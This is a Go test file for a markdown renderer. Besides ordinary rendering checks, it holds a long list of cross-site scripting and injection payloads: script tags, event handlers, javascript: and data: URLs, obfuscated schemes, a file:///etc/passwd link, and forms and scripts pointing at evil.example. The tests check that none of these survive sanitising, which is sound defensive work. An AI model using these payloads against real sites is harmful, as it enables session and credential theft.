package markdown_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"plinth/views/markdown"
	"plinth/views/ui/uitest"
)

// own is the address of a file that is attached here.
const own = "/orgs/acme/projects/WEB/tickets/12/attachments/0194d2a8-7c3e-7f00-8a11-0123456789ab"

// anywhere is its address by its id alone.
const anywhere = "/orgs/acme/files/0194d2a8-7c3e-7f00-8a11-0123456789ab"

func TestText(t *testing.T) {
	t.Parallel()
	link := `<a href="https://example.com/a?b=1&amp;c=2" rel="nofollow noopener">`
	for source, want := range map[string]string{
		"":                                      "",
		"plain":                                 "<p>plain</p>",
		"a\nb":                                  "<p>a<br>b</p>",
		"*em* **strong** ~~del~~ `code`":        "<p><em>em</em> <strong>strong</strong> <del>del</del> <code>code</code></p>",
		"# One\n## Two\n# Again":                "<h3>One</h3><h4>Two</h4><h3>Again</h3>",
		"### Deep\n###### Deeper":               "<h3>Deep</h3><h4>Deeper</h4>",
		"https://example.com/a?b=1&c=2":         "<p>" + link + "https://example.com/a?b=1&amp;c=2</a></p>",
		"[x](https://example.com/a?b=1&c=2)":    "<p>" + link + "x</a></p>",
		"[in](/orgs/acme)":                      `<p><a href="/orgs/acme" rel="nofollow noopener">in</a></p>`,
		"a@example.com":                         `<p><a href="mailto:a@example.com" rel="nofollow noopener">a@example.com</a></p>`,
		"![a picture](https://x.example/p.png)": `<p><a rel="nofollow noopener" href="https://x.example/p.png">a picture</a></p>`,
		"![](https://x.example/p.png)":          `<p><a rel="nofollow noopener" href="https://x.example/p.png">https://x.example/p.png</a></p>`,
		"![a *shot*](" + own + ")":              `<p><a class="picture" rel="nofollow noopener" href="` + own + `"><img loading="lazy" src="` + own + `/thumbnail" alt="a shot"></a></p>`,
		"![a](" + anywhere + ")":                `<p><a class="picture" rel="nofollow noopener" href="` + anywhere + `"><img loading="lazy" src="` + anywhere + `/thumbnail" alt="a"></a></p>`,
		"![a](" + anywhere + "/remove)":         `<p><a rel="nofollow noopener" href="` + anywhere + `/remove">a</a></p>`,
		"![](" + own + ")":                      `<p><a class="picture" rel="nofollow noopener" href="` + own + `"><img loading="lazy" src="` + own + `/thumbnail" alt="Picture"></a></p>`,
		"![a](" + own + "?x)":                   `<p><a rel="nofollow noopener" href="` + own + `?x">a</a></p>`,
		"![a](https://x.example" + own + ")":    `<p><a rel="nofollow noopener" href="https://x.example` + own + `">a</a></p>`,
		"![a](/orgs/acme/../.." + own + ")":     `<p><a rel="nofollow noopener" href="/orgs/acme/../..` + own + `">a</a></p>`,
		"```go\na < b\n```":                     `<pre tabindex="0" role="group" aria-label="Code"><code>a &lt; b</code></pre>`,
		"> said":                                "<blockquote><p>said</p></blockquote>",
		"3. three\n4. four":                     `<ol start="3"><li>three</li><li>four</li></ol>`,
		"- [x] with `code` done\n- [ ] open": `<ul><li class="task"><input class="checkbox" type="checkbox" disabled="" checked="" aria-label="Done"> <span>with <code>code</code> done</span></li>` +
			`<li class="task"><input class="checkbox" type="checkbox" disabled="" aria-label="Not done"> <span>open</span></li></ul>`,
		"|a|b|\n|-|-:|\n|1|2|": `<div class="scroll-x" tabindex="0" role="group" aria-label="Table"><table class="tbl"><thead><tr><th>a</th><th align="right">b</th></tr></thead>` +
			`<tbody><tr><td>1</td><td align="right">2</td></tr></tbody></table></div>`,
		"a <b>bold</b> tag":    "<p>a &lt;b&gt;bold&lt;/b&gt; tag</p>",
		"<div>\nblock\n</div>": "<p>&lt;div&gt;block&lt;/div&gt;</p>",
		"5 < 6 & 7 > 2":        "<p>5 &lt; 6 &amp; 7 &gt; 2</p>",
	} {
		if got := fold(uitest.Check(t, context.Background(), markdown.Text(source))); got != fold(want) {
			t.Errorf("%q became\n%s, want\n%s", source, got, want)
		}
	}
}

// fold leaves out the line ends between elements.
func fold(s string) string { return strings.ReplaceAll(strings.TrimSpace(s), "\n", "") }

// attacks are ways to run a script, to load something, to look like a part of the page or to lead elsewhere unseen.
func attacks() []string {
	plain := []string{
		`<script>alert(1)</script>`, `<ScRiPt src=//evil.example></ScRiPt>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`,
		`<svg><animate onbegin=alert(1) attributeName=x>`, `<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`,
		`<a href="javascript:alert(1)">x</a>`, `<body onload=alert(1)>`, `<math><mi//xlink:href="data:x,<script>alert(4)</script>">`,
		`<form action="https://evil.example"><input name=password></form>`, `<base href="https://evil.example/">`,
		`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<link rel=stylesheet href=//evil.example>`, `<style>*{display:none}</style>`,
		`<div style="position:fixed;inset:0">`, `<p hx-on:click="alert(1)" hx-get="/x">`, `<button formaction=javascript:alert(1)>`,
		`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`,
		`<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<plaintext>`, `<textarea></textarea><script>`, `</section></main><h1>Fake</h1>`,
		`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](java&#115;cript:alert(1))`, "[x](java\tscript:alert(1))", `[x](&#x6A;avascript:alert(1))`,
		`[x](vbscript:msgbox(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](file:///etc/passwd)`, `[x](blob:https://x/y)`, `[x](\x01javascript:alert(1))`,
		`[x](javascript&colon;alert(1))`, `[x](http://a" onmouseover="alert(1))`, `[x](<javascript:alert(1)>)`, `<javascript:alert(1)>`,
		`![x" onerror="alert(1)](` + own + `)`, `![<img src=x onerror=alert(1)>](` + own + `)`, `![x](` + own + `" onerror="alert(1))`, `![x](` + own + ` "t' onerror=alert(1)")`,
		`![x](javascript:alert(1))`, `![x](https://a"onerror="alert(1))`, `![x" onerror="alert(1)](y)`, `![<script>alert(1)</script>](y)`,
		"[x]: javascript:alert(1)\n[x]", `[x](https://a 'title" onmouseover="alert(1)')`, "[a](b){onclick=alert(1)}", "# h {onclick=alert(1) #id}",
		"`</code><script>alert(1)</script>`", "```\n</pre><script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```",
		"|<script>|\n|-|\n|<img src=x onerror=alert(1)>|", "- [x] <img src=x onerror=alert(1)>", "http://x.example/<script>alert(1)</script>",
		"www.x.example\"onmouseover=alert(1)", "<https://x.example/\"onmouseover=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
		"<a href='x' rel='opener'>x</a>", "<input type=password>", "<input type=checkbox name=x form=y>", `<p id="main">`, `<p class="btn">`,
		"\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\u2028<script>", "<script\x0c>alert(1)</script>", "<<script>script>alert(1)</script>",
	}
	wrapped := make([]string, 0, 4*len(plain))
	for _, a := range plain {
		wrapped = append(wrapped, a, "> "+a, "- "+a, "*"+a+"*")
	}
	return wrapped
}

// What comes out is read as a browser reads it: only known elements, only known attributes, only harmless addresses.
func TestNoAttackComesThrough(t *testing.T) {
	t.Parallel()
	for _, source := range attacks() {
		got := uitest.Render(t, context.Background(), markdown.Text(source))
		doc, err := html.Parse(strings.NewReader(got))
		if err != nil {
			t.Fatal(err)
		}
		inspect(t, source, doc)
	}
}

func inspect(t *testing.T, source string, n *html.Node) {
	t.Helper()
	if n.Type == html.CommentNode {
		t.Errorf("%q leaves a comment: %s", source, n.Data)
	}
	if n.Type == html.ElementNode {
		known := strings.Fields("html head body p br hr h3 h4 h5 h6 ul ol li blockquote pre code em strong del span table thead tbody tr th td div a input img")
		if !contains(known, n.Data) {
			t.Errorf("%q makes <%s>", source, n.Data)
		}
		for _, a := range n.Attr {
			inspectAttr(t, source, n, a)
		}
	}
	for c := range n.ChildNodes() {
		inspect(t, source, c)
	}
}

func inspectAttr(t *testing.T, source string, n *html.Node, a html.Attribute) {
	t.Helper()
	switch a.Key {
	case "href":
		scheme, _, found := strings.Cut(strings.ToLower(strings.TrimSpace(a.Val)), ":")
		if found && !strings.ContainsAny(scheme, "/?#") && !contains([]string{"http", "https", "mailto"}, scheme) {
			t.Errorf("%q leads to %s", source, a.Val)
		}
		if strings.ContainsAny(a.Val, "\t\n\x00\"<>") {
			t.Errorf("%q leads to %q", source, a.Val)
		}
	case "src":
		if n.Data != "img" || !strings.HasPrefix(a.Val, "/orgs/") || !strings.HasSuffix(a.Val, "/thumbnail") {
			t.Errorf("%q loads %s", source, a.Val)
		}
	case "alt", "loading":
		if n.Data != "img" {
			t.Errorf("%q makes <%s %s>", source, n.Data, a.Key)
		}
	case "rel", "align", "start", "tabindex", "role", "aria-label":
	case "class":
		if !contains([]string{"task", "checkbox", "tbl", "scroll-x", "picture"}, a.Val) {
			t.Errorf("%q sets the class %s", source, a.Val)
		}
	case "type", "checked", "disabled":
		if n.Data != "input" || a.Key == "type" && a.Val != "checkbox" {
			t.Errorf("%q makes <%s %s=%s>", source, n.Data, a.Key, a.Val)
		}
	default:
		t.Errorf("%q makes <%s %s>", source, n.Data, a.Key)
	}
	if n.Data == "a" && !hasRel(n) {
		t.Errorf("%q makes a link without rel", source)
	}
}

func hasRel(n *html.Node) bool {
	for _, a := range n.Attr {
		if a.Key == "rel" && a.Val == "nofollow noopener" {
			return true
		}
	}
	return false
}

func contains(list []string, s string) bool {
	for _, each := range list {
		if each == s {
			return true
		}
	}
	return false
}

// The largest text a ticket takes must not hold up a page, however it is built.
func TestHeavyText(t *testing.T) {
	t.Parallel()
	const size = 100 << 10
	for _, unit := range []string{">", "> ", "[", "![", "*", "_a ", "**a ", "`", "- ", "1. ", "<", "|", "|-", "\\", "&", "[a](", "[a]: b\n", "~~", "<a ", "www.a.b ", "- [ ] x\n", "\t", "* * ", "a\n===\n", "+ ", "> - ", "1) ", "  - a\n", "](", "[](", "a](b", "<http:a>", "~", "__a", "*a**b", "~~a", "(a", "a\n*b", "|a|\n|-|\n", "> a\n\n"} {
		begun := time.Now()
		uitest.Render(t, context.Background(), markdown.Text(strings.Repeat(unit, size/len(unit))))
		took := time.Since(begun)
		if took > time.Second {
			t.Errorf("100 KB of %q take %s", unit, took)
		}
	}
}
